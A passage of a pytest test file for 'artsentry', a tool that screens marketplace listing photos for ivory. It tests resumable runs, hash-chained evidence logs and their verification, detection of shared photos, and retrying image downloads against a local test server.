    assert f" {n}/{n} " in last and counts(records) in last


def test_screen_resumes_after_interruption_and_torn_write(model_dir, listings, tmp_path):
    whole = tmp_path / "whole"
    Screener(model_dir, progress=False, batch_size=4).run(listings, whole)
    part = tmp_path / "part"
    s = Screener(model_dir, progress=False, batch_size=4)
    t0 = time.time()
    first = s.run(listings, part, max_rows=10)
    took = time.time() - t0
    assert not first["complete"] and first["recorded"] == 12  # whole batches of 4
    assert not (part / "queue.csv").exists()
    this_run = first["this_run"]  # what the run itself took, and its speed
    assert this_run["images"] == 12 and 0 < this_run["seconds"] <= took + 0.01
    # the speed is from the unrounded seconds; the seconds shown are rounded to 0.01 s
    assert 12 / (this_run["seconds"] + 0.005) - 0.01 <= this_run["images_per_second"] \
        <= 12 / max(this_run["seconds"] - 0.005, 1e-9) + 0.01
    # --overwrite over an interrupted run (no report written yet) starts it again from the first row
    over = tmp_path / "over"
    shutil.copytree(part, over)
    assert Screener(model_dir, progress=False, batch_size=4).run(listings, over, overwrite=True)["this_run"]["images"] \
        == len(pd.read_csv(listings))
    assert _strip_time(read_evidence(whole / "evidence.jsonl")) == _strip_time(read_evidence(over / "evidence.jsonl"))
    lines = (part / "evidence.jsonl").read_bytes().splitlines(keepends=True)
    # killed before its first batch was whole: nothing kept, all screened again
    first_batch = tmp_path / "first_batch"
    shutil.copytree(part, first_batch)
    (first_batch / "evidence.jsonl").write_bytes(b"".join(lines[:2]) + lines[2][:25])
    assert Screener(model_dir, progress=False, batch_size=4).run(listings, first_batch)["complete"]
    assert _strip_time(read_evidence(whole / "evidence.jsonl")) == _strip_time(read_evidence(first_batch / "evidence.jsonl"))
    # killed while writing the third batch: two of its records made it, the next is torn
    (part / "evidence.jsonl").write_bytes(b"".join(lines[:10]) + lines[10][:25])
    second = Screener(model_dir, progress=False, batch_size=4).run(listings, part)
    assert second["complete"]
    a, b = read_evidence(whole / "evidence.jsonl"), read_evidence(part / "evidence.jsonl")
    assert [r["row"] for r in b] == list(range(len(b)))  # every row once, none twice
    assert _strip_time(a) == _strip_time(b)
    for name in ("results.csv", "queue.csv", "errors.csv", "queue.html", "listings.csv"):
        assert (whole / name).read_bytes() == (part / name).read_bytes(), name
    again = Screener(model_dir, progress=False).run(listings, part)  # nothing left to do
    assert again["this_run"]["images"] == 0 and len(read_evidence(part / "evidence.jsonl")) == len(b)


def test_an_evidence_log_keeps_its_complete_records_and_refuses_a_bad_one_between_them(tmp_path):
    """A kill tears the last line at most: that line is left out, whether it stopped before its newline
    or not. A bad line with records after it was not torn by a kill; resuming over it would build on an
    edited or damaged log, so it is refused, with where it is."""
    path = tmp_path / "evidence.jsonl"
    lines = [json.dumps({"row": i}).encode() + b"\n" for i in range(3)]
    for tail in (b"", b'{"row": 3, "ima', b'{"row": 3, "ima\n'):
        path.write_bytes(b"".join(lines) + tail)
        assert read_evidence(path) == [{"row": 0}, {"row": 1}, {"row": 2}], tail
    path.write_bytes(lines[0] + b'{"row": 1, "ima\n' + lines[2])
    with pytest.raises(ScreenError, match=rf"evidence\.jsonl: corrupt record at byte {len(lines[0])}; not resuming"):
        read_evidence(path)
    path.write_bytes(b"")
    assert read_evidence(path) == [] and read_evidence(tmp_path / "none.jsonl") == []


def test_screen_refuses_to_resume_over_other_input(model_dir, listings, tmp_path):
    out = tmp_path / "out"
    Screener(model_dir, progress=False).run(listings, out, max_rows=3)
    other = tmp_path / "other.csv"
    pd.read_csv(listings).iloc[:5].to_csv(other, index=False)
    shutil.copy(other, listings)
    with pytest.raises(ScreenError, match=r"of the same input with other content \(\d+ rows then, 5 now\); use "):
        Screener(model_dir, progress=False).run(listings, out)
    assert Screener(model_dir, progress=False).run(listings, out, overwrite=True)["recorded"] == 5


def test_screen_refuses_a_folder_of_outputs_without_a_run_and_touches_nothing(model_dir, listings, tmp_path):
    """results.csv of another tool, or a run whose screen.json was deleted: --overwrite would delete them,
    and resuming would append this input's records to a log this run never wrote."""
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "results.csv").write_text("their own table\n")
    run = tmp_path / "run"
    Screener(model_dir, progress=False).run(listings, run)
    (run / "screen.json").unlink()
    log = (run / "evidence.jsonl").read_bytes()
    for out, found in ((theirs, "results.csv"), (run, "evidence.jsonl, results.csv, queue.csv")):
        for overwrite in (False, True):
            with pytest.raises(ScreenError, match=rf"^{out} holds {found}.* but no screen.json: not a screening run "
                                                  "to resume or overwrite .*nothing was touched: use another --out$"):
                Screener(model_dir, progress=False).run(listings, out, overwrite=overwrite)
    assert (theirs / "results.csv").read_text() == "their own table\n"
    assert (run / "evidence.jsonl").read_bytes() == log and (run / "results.csv").is_file()


def test_overwrite_stopped_half_way_leaves_a_run_it_can_overwrite(model_dir, listings, tmp_path, monkeypatch):
    """--overwrite deletes the run's record (screen.json) last: stopped between two deletions, the folder is
    still a screening run's, and the same command starts over."""
    out = tmp_path / "out"
    Screener(model_dir, progress=False).run(listings, out)
    real = Path.unlink

    def stop_at_results(self, missing_ok=False):
        if self.name == "results.csv":
            raise KeyboardInterrupt
        return real(self, missing_ok=missing_ok)

    monkeypatch.setattr(Path, "unlink", stop_at_results)
    with pytest.raises(KeyboardInterrupt):
        Screener(model_dir, progress=False).run(listings, out, overwrite=True)
    monkeypatch.setattr(Path, "unlink", real)
    assert (out / "screen.json").is_file() and not (out / "evidence.jsonl").exists()
    summary = Screener(model_dir, progress=False).run(listings, out, overwrite=True)
    assert summary["complete"] and summary["recorded"] == len(pd.read_csv(listings))


def test_a_screened_table_that_grew_screens_only_its_new_rows(model_dir, listings, tmp_path, caplog):
    """A daily scrape appended to the same table: yesterday's rows are not screened again."""
    rows = pd.read_csv(listings)
    whole = tmp_path / "whole"
    Screener(model_dir, progress=False, batch_size=4).run(listings, whole)
    rows.iloc[:9].to_csv(listings, index=False)
    out = tmp_path / "out"
    assert Screener(model_dir, progress=False, batch_size=4).run(listings, out)["complete"]
    rows.to_csv(listings, index=False)
    with caplog.at_level("WARNING"):
        grown = Screener(model_dir, progress=False, batch_size=4).run(listings, out)
    assert grown["complete"] and grown["this_run"]["images"] == len(rows) - 9
    assert f"grew from 9 to {len(rows)} rows since {out} was screened, the first 9 unchanged: screening the " \
        f"{len(rows) - 9} new row(s)" in caplog.text
    a, b = read_evidence(whole / "evidence.jsonl"), read_evidence(out / "evidence.jsonl")
    assert [r["row"] for r in b] == list(range(len(rows)))
    assert [(r["row"], r["error"], r.get("score")) for r in a] == \
        [(r["row"], r["error"], pytest.approx(r.get("score"), abs=1e-5) if r.get("score") is not None else None)
         for r in b]
    for name in ("results.csv", "errors.csv", "listings.csv"):  # the same tables as one run over the whole input
        x, y = pd.read_csv(whole / name), pd.read_csv(out / name)
        pd.testing.assert_frame_equal(x, y, check_exact=False, atol=1e-5)
    # a first row changed: not the same input grown, refused; nor when rows were added too
    changed = rows.assign(title=["changed"] + rows["title"].iloc[1:].tolist())
    changed.to_csv(listings, index=False)
    with pytest.raises(ScreenError, match="other content"):
        Screener(model_dir, progress=False, batch_size=4).run(listings, out)
    pd.concat([changed, rows.iloc[:2]]).to_csv(listings, index=False)
    with pytest.raises(ScreenError, match="other content"):
        Screener(model_dir, progress=False, batch_size=4).run(listings, out)


def test_a_screened_folder_that_gained_files_screens_only_the_new_ones(model_dir, synthetic_dataset, tmp_path, caplog):
    """A scrape folder that new files land in: sorted, they fall between the screened ones."""
    files = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:6] + sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))[:6]
    folder = tmp_path / "scrape"
    for k, f in enumerate(files):
        (folder / f"shop{k % 3}").mkdir(parents=True, exist_ok=True)
        shutil.copy(f, folder / f"shop{k % 3}" / f"{k:02d}.jpg")
    whole = tmp_path / "whole"
    Screener(model_dir, progress=False, batch_size=4).run(folder, whole, group_folders=True)
    late = [folder / "shop0" / "03.jpg", folder / "shop1" / "10.jpg", folder / "shop2" / "05.jpg"]
    kept = {p: p.read_bytes() for p in late}
    for p in late:
        p.unlink()
    out = tmp_path / "out"  # screened a photo at a time, so a run can stop after any photo
    assert Screener(model_dir, progress=False, batch_size=1).run(folder, out, group_folders=True)["rows"] == 9
    for p, data in kept.items():  # they sort between the photos screened yesterday
        p.write_bytes(data)
    with caplog.at_level("WARNING"):  # interrupted after one of the new photos, then resumed
        part = Screener(model_dir, progress=False).run(folder, out, group_folders=True, max_rows=1)
    assert not part["complete"] and part["this_run"]["images"] == 1
    assert "gained 3 image(s)" in caplog.text
    grown = Screener(model_dir, progress=False).run(folder, out, group_folders=True)
    assert grown["complete"] and grown["rows"] == 12 and grown["this_run"]["images"] == 2
    a, b = read_evidence(whole / "evidence.jsonl"), read_evidence(out / "evidence.jsonl")
    assert [r["row"] for r in b] == list(range(12))
    assert {r["image"] for r in b[9:]} == {str(p.resolve()) for p in late}  # the new ones, after the old
    score = {r["image"]: (r["listing_id"], r.get("score")) for r in a}
    assert {r["image"]: (r["listing_id"], pytest.approx(r.get("score"), abs=1e-5)) for r in b} == score
    for name in ("results.csv", "listings.csv"):  # the same findings as one run over the whole folder
        x, y = (pd.read_csv(d / name).drop(columns=["row", "first_row"], errors="ignore") for d in (whole, out))  # renumbered
        key = "image" if name == "results.csv" else "listing_id"
        pd.testing.assert_frame_equal(x.sort_values(key).reset_index(drop=True),
                                      y.sort_values(key).reset_index(drop=True), check_exact=False, atol=1e-5)
    # run again: nothing new, nothing screened
    assert Screener(model_dir, progress=False).run(folder, out, group_folders=True)["this_run"]["images"] == 0
    # a new file, and a screened one overwritten with another photo: not the folder grown, refused
    shutil.copy(files[0], folder / "shop2" / "98.jpg")
    before = (folder / "shop0" / "00.jpg").read_bytes()
    shutil.copy(files[-1], folder / "shop0" / "00.jpg")
    with pytest.raises(ScreenError, match=r"1 photo\(s\) screened there have changed since \(e\.g\. .*shop0/00\.jpg\)"):
        Screener(model_dir, progress=False).run(folder, out, group_folders=True)
    (folder / "shop0" / "00.jpg").write_bytes(before)
    (folder / "shop2" / "98.jpg").unlink()
    # a screened photo gone (and one added): not the same folder grown, refused
    (folder / "shop1" / "01.jpg").unlink()
    shutil.copy(files[0], folder / "shop1" / "99.jpg")
    with pytest.raises(ScreenError, match=r"other content \(rows changed\): 1 screened photo\(s\) no longer there, "
                       r"e\.g\. .*shop1/01\.jpg; use --overwrite"):
        Screener(model_dir, progress=False).run(folder, out, group_folders=True)


def test_a_grown_table_whose_screened_photo_changed_is_refused(model_dir, synthetic_dataset, tmp_path):
    """Rows appended, but a screened row's file now holds another photo: its recorded decision would
    stand for content that is no longer there."""
    files = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:3] + sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))[:3]
    for k, f in enumerate(files):
        shutil.copy(f, tmp_path / f"{k}.jpg")
    (tmp_path / "3.jpg").write_bytes(b"")  # unreadable then and now: its error stands, nothing to compare
    table = tmp_path / "listings.csv"
    pd.DataFrame({"listing_id": ["a", "b", "c", "d"], "image": [f"{k}.jpg" for k in range(4)]}).to_csv(table, index=False)
    out = tmp_path / "out"
    assert Screener(model_dir, progress=False).run(table, out)["unreadable"] == 1
    pd.DataFrame({"listing_id": list("abcdef"), "image": [f"{k}.jpg" for k in range(6)]}).to_csv(table, index=False)
    shutil.copy(files[5], tmp_path / "1.jpg")
    with pytest.raises(ScreenError, match=r"1 photo\(s\) screened there have changed since \(e\.g\. .*1\.jpg\)"):
        Screener(model_dir, progress=False).run(table, out)
    shutil.copy(files[1], tmp_path / "1.jpg")  # back as it was: the two new rows are screened
    assert Screener(model_dir, progress=False).run(table, out)["this_run"]["images"] == 2


def test_a_resumed_run_whose_screened_photo_changed_is_refused(model_dir, synthetic_dataset, tmp_path):
    """Killed, a screened file overwritten, then resumed: the recorded decision would stand for a photo
    that is no longer there, so the run is refused by name; run again when finished, too."""
    files = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:4] + sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))[:4]
    for k, f in enumerate(files):
        shutil.copy(f, tmp_path / f"{k}.jpg")
    table = tmp_path / "listings.csv"
    pd.DataFrame({"image": [f"{k}.jpg" for k in range(8)]}).to_csv(table, index=False)
    out = tmp_path / "out"
    assert Screener(model_dir, progress=False, batch_size=2).run(table, out, max_rows=4)["recorded"] == 4
    before = (tmp_path / "1.jpg").read_bytes()
    shutil.copy(files[-1], tmp_path / "1.jpg")
    with pytest.raises(ScreenError, match=r"1 photo\(s\) screened there have changed since \(e\.g\. .*1\.jpg\)"):
        Screener(model_dir, progress=False, batch_size=2).run(table, out)
    assert len(read_evidence(out / "evidence.jsonl")) == 4  # nothing screened, nothing dropped
    shutil.copy(files[-1], tmp_path / "6.jpg")  # not screened yet: its new content is what gets screened
    (tmp_path / "1.jpg").write_bytes(before)
    done = Screener(model_dir, progress=False, batch_size=2).run(table, out)
    assert done["complete"] and done["this_run"]["images"] == 4
    (tmp_path / "3.jpg").write_bytes(files[-2].read_bytes())  # finished, then changed: outputs not rewritten over it
    with pytest.raises(ScreenError, match=r"changed since \(e\.g\. .*3\.jpg\)"):
        Screener(model_dir, progress=False).run(table, out)
    assert Screener(model_dir, progress=False).run(table, out, overwrite=True)["this_run"]["images"] == 8
    assert verify_run(out)["verified"] == 8
    (tmp_path / "3.jpg").write_bytes(files[0].read_bytes())  # after the report was made: caught by verify
    (tmp_path / "5.jpg").unlink()
    v = verify_run(out)
    assert (v["verified"], v["changed"], v["missing"]) == (6, 1, 1)
    assert v["changed_photos"] == [str(tmp_path / "3.jpg")] and v["missing_photos"] == [str(tmp_path / "5.jpg")]


def test_evidence_records_are_chained_through_a_resume_and_verify_catches_an_edit(model_dir, synthetic_dataset,
                                                                                  tmp_path, capsys):
    """Each record holds the hash of the line before it: a head noted down mid-run still stands for its
    records after the run resumed and finished; a record edited afterwards breaks the chain and the head
    noted then no longer stands; verify says both and exits 1."""
    from artsentry import chainlog
    from artsentry.cli import main

    files = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:4] + sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))[:4]
    table = tmp_path / "listings.csv"
    pd.DataFrame({"image": [str(f) for f in files]}).to_csv(table, index=False)
    out = tmp_path / "out"
    first = Screener(model_dir, progress=False, batch_size=2).run(table, out, max_rows=4)
    log = out / "evidence.jsonl"
    noted = first["evidence_head"]
    assert noted == chainlog.line_hash(log.read_bytes().splitlines()[-1])
    done = Screener(model_dir, progress=False, batch_size=2).run(table, out)
    assert done["complete"] and done["evidence_head"] != noted
    lines = log.read_bytes().splitlines()
    recs = read_evidence(log)
    assert recs[0]["prev"] == chainlog.GENESIS
    assert [r["prev"] for r in recs[1:]] == [chainlog.line_hash(x) for x in lines[:-1]]  # across the resume too
    capsys.readouterr()
    assert main(["-q", "verify", str(out), "--expect", noted]) == 0
    said = capsys.readouterr().out
    assert "evidence.jsonl: chain intact, 8 linked record(s)" in said
    assert f"the head {noted} stands for the first 4 record(s): still there, unchanged" in said
    assert f"evidence.jsonl head {done['evidence_head']}" in said
    # a decision edited after the report: the photos still hash as screened, the chain does not hold
    edited = json.loads(lines[2])
    edited["flagged"] = not edited["flagged"]
    lines[2] = json.dumps(edited, ensure_ascii=False).encode()
    log.write_bytes(b"\n".join(lines) + b"\n")
    assert main(["-q", "verify", str(out), "--expect", noted]) == 1
    said = capsys.readouterr().out
    assert "8 of 8 photo(s) hash as screened" in said
    assert "chain BROKEN: the record on line(s) 4 does not link" in said
    assert f"the head {noted} stands for no record of this log as it is now" in said
    assert main(["-q", "verify", str(out), "--expect", chainlog.line_hash(lines[1])]) == 1  # noted before the edit:
    said = capsys.readouterr().out  # its two records are whole, the chain after them is not
    assert "stands for the first 2 record(s): still there, unchanged" in said and "chain BROKEN" in said


def test_chain_check_finds_edits_removals_insertions_and_old_records():
    from artsentry import chainlog

    text, head = chainlog.chained_lines([{"n": i} for i in range(5)], chainlog.GENESIS)
    data = text.encode()
    c = chainlog.check(data)
    assert (c["records"], c["unchained"], c["broken"], c["bad_lines"], c["head"]) == (5, 0, [], [], head)
    lines = data.splitlines(keepends=True)
    assert chainlog.find_head(c, chainlog.line_hash(lines[2])) == 3 and chainlog.find_head(c, "f" * 64) is None
    edited = lines[:1] + [lines[1].replace(b'"n": 1', b'"n": 9')] + lines[2:]
    assert chainlog.check(b"".join(edited))["broken"] == [3]
    assert chainlog.check(b"".join(lines[:3] + lines[4:]))["broken"] == [4]  # one removed
    assert chainlog.check(b"".join(lines[:2] + [b'{"n": 7}\n'] + lines[2:]))["broken"] == [3, 4]  # one inserted
    assert chainlog.check(b"".join(lines[:4]))["broken"] == []  # the tail cut: only a noted head tells
    # the head cut (or a rotated log's later file): not a break inside it, said as its own finding
    c = chainlog.check(b"".join(lines[2:]))
    assert (c["broken"], c["continues"]) == ([], chainlog.line_hash(lines[1].rstrip(b"\n")))
    c = chainlog.check(b"".join(lines[2:]), prev=chainlog.line_hash(lines[1].rstrip(b"\n")))  # after its file
    assert (c["broken"], c["continues"], c["head"]) == ([], None, head)
    assert chainlog.check(b"".join(lines[3:]), prev=chainlog.line_hash(lines[1].rstrip(b"\n")))["broken"] == [1]
    # records from before the chain, then linked ones continuing from the last of them
    old = b'{"n": "a"}\n{"n": "b"}\n'
    more, _ = chainlog.chained_lines([{"n": "c"}], chainlog.line_hash(b'{"n": "b"}'))
    c = chainlog.check(old + more.encode())
    assert (c["records"], c["unchained"], c["broken"]) == (3, 2, [])
    # a torn last line is not a record; the head is read from the end of a long log
    torn = data + b'{"n": 5, "pr'
    assert chainlog.check(torn)["records"] == 5 and chainlog.check(torn)["bad_lines"] == []
    # a line that is not a record (a write cut short, then closed) between records 2 and 3: they still link
    # across it, and a head counts records, not lines
    closed = lines[:2] + [b'{"n": 2, "pr\n'] + lines[2:]
    c = chainlog.check(b"".join(closed))
    assert (c["records"], c["broken"], c["bad_lines"]) == (5, [], [3])
    assert chainlog.find_head(c, chainlog.line_hash(lines[2])) == 3
    # record 2 edited: record 3 (line 4, past the bad line) no longer links, so a head noted at record 3
    # stands for nothing whole; one noted at record 1 still does
    c = chainlog.check(b"".join(closed[:1] + [lines[1].replace(b'"n": 1', b'"n": 9')] + closed[2:]))
    assert c["broken"] == [4]
    assert chainlog.find_head(c, chainlog.line_hash(lines[2])) is None
    assert chainlog.find_head(c, chainlog.line_hash(lines[0])) == 1
    # a record inserted after record 3 (line 5) breaks the chain there, not before: a head noted at
    # record 3 still stands for its three records
    c = chainlog.check(b"".join(closed[:4] + [b'{"n": 7}\n'] + closed[4:]))
    assert c["broken"] == [5, 6] and chainlog.find_head(c, chainlog.line_hash(lines[2])) == 3
    # the first record links to 64 zeros, and text is written as it is (a human reads these logs too)
    first, _ = chainlog.chained_lines([{"title": "Ivoire sculpté"}], chainlog.GENESIS)
    assert json.loads(first)["prev"] == "0" * 64 and "sculpté" in first


def test_log_head_read_from_the_end(tmp_path):
    from artsentry import chainlog

    text, head = chainlog.chained_lines([{"n": i, "pad": "x" * 300} for i in range(50)], chainlog.GENESIS)
    path = tmp_path / "log.jsonl"
    assert chainlog.head_of(path) == chainlog.GENESIS
    path.write_text(text + '{"n": 50, "pa')
    assert chainlog.head_of(path, chunk=100) == head == chainlog.check_file(path)["head"]
    path.write_text(text)  # whole, and read in one piece: its last line is the head
    assert chainlog.head_of(path) == head
    path.write_text(text + '{"n": 50, "pa\n')  # a torn line closed by a restart, nothing after it yet
    assert chainlog.head_of(path) == head == chainlog.head_of(path, chunk=100)


def test_audit_log_closes_a_torn_line_and_links_past_it(tmp_path):
    from artsentry import chainlog
    from artsentry.serve.audit import AuditLog

    path = tmp_path / "audit.jsonl"
    AuditLog(path).write("analyze", "127.0.0.1", sha256="a" * 64)
    with open(path, "ab") as f:
        f.write(b'{"time": "2026-12-04T11:00:00', )  # the server killed mid-write
    log = AuditLog(path)
    log.write("analyze", "127.0.0.1", sha256="b" * 64)
    c = chainlog.check_file(path)
    assert (c["records"], c["broken"], c["bad_lines"]) == (2, [], [2])
    assert json.loads(path.read_bytes().splitlines()[2])["sha256"] == "b" * 64


def test_the_same_photo_in_several_listings_is_pointed_out(model_dir, synthetic_dataset, tmp_path, capsys):
    """One photo offered again under other listings (by path or as a byte-identical copy): each of its
    rows names the others; a photo in eight listings names five and counts all; unreadable files and a
    photo repeated within one listing are not 'shared'."""
    ivory = sorted((synthetic_dataset / "ivory").glob("*.jpg"))
    other = sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))
    shutil.copy(ivory[0], tmp_path / "copy.jpg")  # the same bytes under another name
    (tmp_path / "empty1.jpg").write_bytes(b"")
    (tmp_path / "empty2.jpg").write_bytes(b"")
    rows = [("A", ivory[0]), ("A", other[0]), ("B", ivory[0]), ("C", tmp_path / "copy.jpg"), ("D", other[1]),
            ("D", other[1]), ("E", tmp_path / "empty1.jpg"), ("F", tmp_path / "empty2.jpg")]
    rows += [(f"P{k}", other[2]) for k in range(8)]  # a placeholder picture
    table = tmp_path / "listings.csv"
    pd.DataFrame({"listing_id": [r[0] for r in rows], "image": [str(r[1]) for r in rows]}).to_csv(table, index=False)
    out = tmp_path / "out"
    summary = Screener(model_dir, progress=False).run(table, out)
    assert summary["photos_in_several_listings"] == 2  # ivory[0] and the placeholder
    res = pd.read_csv(out / "results.csv", keep_default_na=False)
    got = [(r.listing_id, r.shared_with, r.shared_with_ids) for r in res.itertuples()]
    assert got[:8] == [("A", 2, "B; C"), ("A", 0, ""), ("B", 2, "A; C"), ("C", 2, "A; B"), ("D", 0, ""), ("D", 0, ""),
                       ("E", 0, ""), ("F", 0, "")]
    assert got[8] == ("P0", 7, "P1; P2; P3; P4; P5") and got[15] == ("P7", 7, "P0; P1; P2; P3; P4")
    per = pd.read_csv(out / "listings.csv", keep_default_na=False).set_index("listing_id")
    assert per.loc["A", "shared_with"] == 2 and per.loc["A", "shared_with_ids"] == "B; C"
    assert per.loc["D", "shared_with"] == 0 and per.loc["P3", "shared_with"] == 7
    page = (out / "queue.html").read_text()
    flagged = res[res["flagged"] == "True"]
    assert {"A", "B", "C"} <= set(flagged["listing_id"])  # the ivory photo, flagged wherever it is
    assert "the same photo is in 2 other listing(s): B; C" in page
    for r in flagged.itertuples():  # each queued photo's card says where else it is
        if r.shared_with:
            assert f"the same photo is in {r.shared_with} other listing(s): {r.shared_with_ids}" in page
    assert ("P" in set(flagged["listing_id"].str[0])) == ("and 2 more" in page)
    capsys.readouterr()
    main(["-q", "screen", str(table), "--out", str(out), "--model", str(model_dir)])  # finished: outputs rewritten
    assert "2 photo(s) appear, byte for byte, in more than one listing" in capsys.readouterr().out


def test_image_urls_are_fetched_again_after_a_shops_passing_trouble(model_dir, synthetic_dataset, tmp_path, capsys):
    """--fetch-urls against a shop that rate-limits and stumbles: 503 and 429 answers (Retry-After) are
    asked again and the photos screened; a 404 is final and asked once; one that never recovers is an
    error saying how often it was tried. Connections carry artsentry's User-Agent. With --keep-fetched
    the fetched bytes are kept by their SHA-256 and the review page shows them."""
    photo = next((synthetic_dataset / "ivory").glob("*.jpg")).read_bytes()
    seen: list[tuple[str, str]] = []

    def respond(request):
        seen.append((request.path, request.headers["User-Agent"]))
        tries = sum(p == request.path for p, _ in seen)
        status = {"/flaky.jpg": 503 if tries <= 2 else 200, "/limited.jpg": 429 if tries == 1 else 200,
                  "/gone.jpg": 404, "/down.jpg": 502}[request.path]
        if status == 200:
            return reply(request, 200, photo)
        reply(request, status, b"no", Retry_After=0)

    table = tmp_path / "listings.csv"
    names = ["flaky.jpg", "limited.jpg", "gone.jpg", "down.jpg"]
    with web_host(respond) as (base, _):
        pd.DataFrame({"listing_id": list("abcd"), "image_url": [f"{base}/{n}" for n in names]}).to_csv(table,
                                                                                                      index=False)
        # decoding workers fetch, and keep what they fetched
        Screener(model_dir, progress=False, fetch_urls=True, keep_fetched=tmp_path / "kept",
                 fetch_private=True).run(table, tmp_path / "out")  # the shop is on this machine
    res = pd.read_csv(tmp_path / "out" / "results.csv").set_index("listing_id")
    assert res.loc["a", "sha256"] == res.loc["b", "sha256"] == hashlib.sha256(photo).hexdigest()
    assert pd.isna(res.loc["a", "error"]) and pd.isna(res.loc["b", "error"])
    assert res.loc["c", "error"].endswith("/gone.jpg: HTTP 404")
    assert res.loc["d", "error"].endswith("/down.jpg: download failed after 4 attempts (HTTP 502)")
    tries = {n: sum(p == f"/{n}" for p, _ in seen) for n in names}
    assert tries == {"flaky.jpg": 3, "limited.jpg": 2, "gone.jpg": 1, "down.jpg": 4}
    assert {agent for _, agent in seen} == {f"artsentry/{__version__} (listing screening)"}
    # the same photo from two listings is kept once, by its SHA-256, byte for byte; the failures not at all
    sha = hashlib.sha256(photo).hexdigest()
    assert [p.relative_to(tmp_path / "kept").as_posix() for p in (tmp_path / "kept").rglob("*") if p.is_file()] == \
        [f"{sha[:2]}/{sha}.jpeg"]
    assert (tmp_path / "kept" / sha[:2] / f"{sha}.jpeg").read_bytes() == photo
    kept = pd.read_csv(tmp_path / "out" / "results.csv", keep_default_na=False).set_index("listing_id")["kept_file"]
    assert kept.to_dict() == {"a": str(tmp_path / "kept" / sha[:2] / f"{sha}.jpeg"), "b": kept["a"], "c": "", "d": ""}
    page = (tmp_path / "out" / "queue.html").read_text()
    assert res.loc["a", "flagged"] and res.loc["b", "flagged"]  # the ivory photo: queued twice
    assert "no preview" not in page and page.count('<img src="data:image/jpeg') == 2  # from the kept copy
    assert main(["-q", "screen", str(table), "--out", str(tmp_path / "o2"), "--model", str(model_dir),
                 "--keep-fetched", str(tmp_path / "k2")]) == 1
    assert "--keep-fetched and --fetch-private apply to the images --fetch-urls downloads" in capsys.readouterr().err
    # verify: the kept copies still hash as screened; the two failures had nothing to check
    capsys.readouterr()
    assert main(["-q", "verify", str(tmp_path / "out")]) == 0
    out = capsys.readouterr().out
    assert "2 of 4 photo(s) hash as screened; changed 0, missing 0, fetched and not kept 0, unreadable then 2" in out
    evidence = tmp_path / "out" / "evidence.jsonl"
    assert f"evidence.jsonl sha256 {hashlib.sha256(evidence.read_bytes()).hexdigest()}" in out
    (tmp_path / "kept" / sha[:2] / f"{sha}.jpeg").write_bytes(photo[:-10])  # the kept copy altered
    assert main(["-q", "verify", str(tmp_path / "out")]) == 1
    out, err = capsys.readouterr()
    assert "0 of 4 photo(s) hash as screened; changed 2" in out and f"changed: {kept['a']}" in err


def test_a_url_several_listings_name_is_fetched_once(model_dir, synthetic_dataset, tmp_path):
    """A marketplace's "no photo" placeholder is named by thousands of listings; each row fetched it again
    (and a host that never answers cost a minute a row). One fetch per URL now, however the rows fall into
    batches and decoding workers, its photo or its error given to every row naming it."""
    import time

    photo, other = [next((synthetic_dataset / c).glob("*.jpg")).read_bytes() for c in ("ivory", "non_ivory")]
    seen: list[str] = []

    def respond(request):
        seen.append(request.path)
        time.sleep(0.2)  # slow enough for both workers to want the placeholder at once
        if request.path == "/gone.jpg":
            return reply(request, 404, b"no")
        reply(request, 200, photo if request.path == "/placeholder.jpg" else other)

    names = ["placeholder.jpg", "gone.jpg", "a.jpg", "placeholder.jpg", "placeholder.jpg", "gone.jpg", "b.jpg",
             "placeholder.jpg", "placeholder.jpg", "c.jpg", "gone.jpg", "placeholder.jpg"]
    table = tmp_path / "listings.csv"
    with web_host(respond) as (base, _):
        pd.DataFrame({"listing_id": [f"L{i}" for i in range(len(names))],
                      "image_url": [f"{base}/{n}" for n in names]}).to_csv(table, index=False)
        Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True, batch_size=2,
                 num_workers=2).run(table, tmp_path / "out")
    assert sorted(seen) == ["/a.jpg", "/b.jpg", "/c.jpg", "/gone.jpg", "/placeholder.jpg"]
    res = pd.read_csv(tmp_path / "out" / "results.csv").set_index("listing_id")
    rows = {n: [f"L{i}" for i, m in enumerate(names) if m == n] for n in ("placeholder.jpg", "gone.jpg")}
    assert (res.loc[rows["placeholder.jpg"], "sha256"] == hashlib.sha256(photo).hexdigest()).all()
    assert res.loc[rows["placeholder.jpg"], "error"].isna().all()
    assert res.loc[rows["gone.jpg"], "error"].str.endswith("/gone.jpg: HTTP 404").all()
    assert len(res) == len(names) and not (tmp_path / "out" / ONCE_DIR).exists()  # the shared answers: gone


def test_a_batchs_urls_are_fetched_together_and_recorded_in_row_order(model_dir, synthetic_dataset, tmp_path):
    """A shop's image host answers each request after the internet's latency; fetched one after another,
    a screening of listing URLs went at 3.5 photos/s at 250 ms whatever the model's pace. A batch's URLs are
    fetched FETCH_THREADS at a time now, each row still given its own photo or error, in the table's order."""
    import threading

    from artsentry.screen import FETCH_THREADS

    photos = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:12] + sorted((synthetic_dataset / "non_ivory")
                                                                              .glob("*.jpg"))[:12]
    served = {f"/{k}.jpg": p.read_bytes() for k, p in enumerate(photos)}
    in_flight, most = [0], [0]
    lock = threading.Lock()

    def respond(request):
        with lock:
            in_flight[0] += 1
            most[0] = max(most[0], in_flight[0])
        time.sleep(0.3)
        with lock:
            in_flight[0] -= 1
        body = served.get(request.path)
        reply(request, 200 if body else 404, body or b"no")

    with web_host(respond) as (base, _):
        images = [f"{base}/{k}.jpg" for k in range(len(photos))]
        images[5], images[17] = f"{base}/gone.jpg", str(photos[17])  # an error, and a file between the URLs
        table = tmp_path / "listings.csv"
        pd.DataFrame({"listing_id": [f"L{i}" for i in range(len(images))], "image": images}).to_csv(table, index=False)
        t0 = time.monotonic()
        Screener(model_dir, progress=False, fetch_urls=True, fetch_private=True, batch_size=len(images),
                 num_workers=0).run(table, tmp_path / "out")
        seconds = time.monotonic() - t0
    # FETCH_THREADS at a time at most (one may be just finishing as the last starts), not 23 answers in a row
    assert FETCH_THREADS // 2 < most[0] <= FETCH_THREADS and seconds < 23 * 0.3
